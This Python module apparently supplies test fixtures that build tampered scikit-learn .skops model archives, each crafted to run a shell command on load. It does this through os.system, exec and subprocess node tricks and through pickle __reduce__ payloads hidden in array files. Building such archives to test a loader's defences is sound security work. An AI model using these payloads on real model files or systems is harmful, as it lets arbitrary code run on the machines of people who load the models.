"""Files of models, edited: ``.skops`` archives that would run code, or hold other numbers."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import skops.io

Node = dict[str, Any]


def unpacked(data: bytes) -> tuple[Node, dict[str, bytes]]:
    """Return the schema of a ``.skops`` file, and its other files."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    return json.loads(files.pop("schema.json")), files


def packed(schema: Node, files: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a ``.skops`` file."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
        archive.writestr("schema.json", json.dumps(schema))
    return stream.getvalue()


def attributes(node: Node) -> dict[str, Node]:
    """Return the attributes of an object's node."""
    return node["content"]["content"]


def with_attribute(model: Any, node: Node, name: str = "evil") -> bytes:
    """Return a model's file with one more attribute."""
    schema, files = unpacked(skops.io.dumps(model))
    attributes(schema)[name] = node
    schema["content"]["key_types"]["content"].append(made("TypeNode", "builtins", "str"))
    return packed(schema, files)


_next = [10**15]


def made(loader: str, module: str, name: str, **parts: Any) -> Node:
    """Return a node with an identity of its own."""
    _next[0] += 1
    return {"__loader__": loader, "__module__": module, "__class__": name, "__id__": _next[0], **parts}


def plain(value: Any) -> Node:
    return made("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def listed(*nodes: Node, kind: str = "list") -> Node:
    return made(f"{kind.title()}Node", "builtins", kind, content=list(nodes))


def keyed(maker: Node, key: str) -> Node:
    """Return a dictionary whose key is made by calling something with a text."""
    return made("DictNode", "builtins", "dict", key_types=listed(maker), content={key: plain(0)})


def method(owner: Node, name: str) -> Node:
    content = {"obj": owner, "func": name}
    return made("MethodNode", owner["__module__"], owner["__class__"], content=content)


def of_the_findings() -> Node:
    """Return ``os.system``, by way of methods of a module that a harmless name leads to."""
    node = made("FunctionNode", "sklearn.metrics._classification", "np")
    for name in ("lib", "_npyio_impl", "os", "system"):
        node = method(node, name)
    return node


def _exec() -> Node:
    node = made("FunctionNode", "mace.space.space", "json")
    for name in ("codecs", "builtins", "exec"):
        node = method(node, name)
    return node


def system(loader: str = "FunctionNode") -> Node:
    return made(loader, "os", "system")


def touching(command: str) -> dict[str, Node]:
    """Return nodes each of which would run a command when it is built."""
    words = command.split()
    reduced = {"args": listed(plain(command), kind="tuple")}
    partial = {
        "func": system(),
        "args": listed(kind="tuple"),
        "kwds": made("DictNode", "builtins", "dict", key_types=listed(), content={}),
        "namespace": plain(None),
    }
    nothing = made("DictNode", "builtins", "dict", key_types=listed(), content={})
    inner = keyed(system(), command)
    return {
        "methods of a module, as in the findings": keyed(of_the_findings(), command),
        "methods of a type": keyed(method(method(made("TypeNode", "os", "path"), "os"), "system"), command),
        "methods of MACE's own module": keyed(_exec(), f"__import__('os').system({command!r})"),
        "a function as the type of a key": inner,
        "a type that is a function": keyed(system("TypeNode"), command),
        "a constructor": made(
            "ConstructorFromReduceNode", "subprocess", "check_call", content=listed(listed(*map(plain, words)), kind="tuple")
        ),
        "a function as a constructor": made(
            "ConstructorFromReduceNode", "os", "system", content=listed(plain(command), kind="tuple")
        ),
        "a function with its arguments": keyed(made("PartialNode", "functools", "partial", content=partial), command),
        "an operator": made(
            "OperatorFuncNode", "operator", "call", attrs=listed(system(), plain(command), kind="tuple")
        ),
        "a reduced loss": made("LossNode", "os", "system", __reduce__=reduced, content=nothing),
        "a list that is a process": made("ListNode", "subprocess", "check_call", content=list(map(plain, words))),
        "a set that is a process": made("SetNode", "subprocess", "check_call", content=list(map(plain, words))),
        "deep inside": listed(listed(listed(listed(inner, kind="tuple"), plain(1)), kind="tuple")),
        "inside an array of objects": made(
            "NdArrayNode", "numpy", "ndarray", type="json", content=[inner], shape=listed(plain(1), kind="tuple")
        ),
        "inside the state of an object": made(
            "ObjectNode", "sklearn.preprocessing._data", "StandardScaler", content=inner
        ),
        "inside a tree": made(
            "TreeNode", "sklearn.tree._tree", "Tree", __reduce__={"args": inner}, content=nothing
        ),
        "as the default of a dictionary": made(
            "DefaultDictNode", "collections", "defaultdict", content={"main": nothing, "default_factory": inner}
        ),
    }  # fmt: skip


def pickled_array(command: str) -> bytes:
    """Return an array's file that holds a pickle."""

    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            import os

            return os.system, (command,)

    stream = io.BytesIO()
    np.save(stream, np.array([Evil()], dtype=object), allow_pickle=True)
    return stream.getvalue()


def pickle_alone(command: str) -> bytes:
    """Return a pickle that calls itself an array's file."""
    import os

    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return os.system, (command,)

    return pickle.dumps(Evil())


def edited_arrays(data: bytes, edit: Callable[[str, Any], Any]) -> bytes:
    """Return a ``.skops`` file with each array replaced by ``edit(name, array)``."""
    schema, files = unpacked(data)
    for name, content in files.items():
        if name.endswith(".npy"):
            array = edit(name, np.load(io.BytesIO(content)))
            stream = io.BytesIO()
            np.save(stream, array)
            files[name] = stream.getvalue()
    return packed(schema, files)


def written(folder: Path, data: bytes, name: str = "model.skops") -> Path:
    file = folder / name
    file.write_bytes(data)
    return file
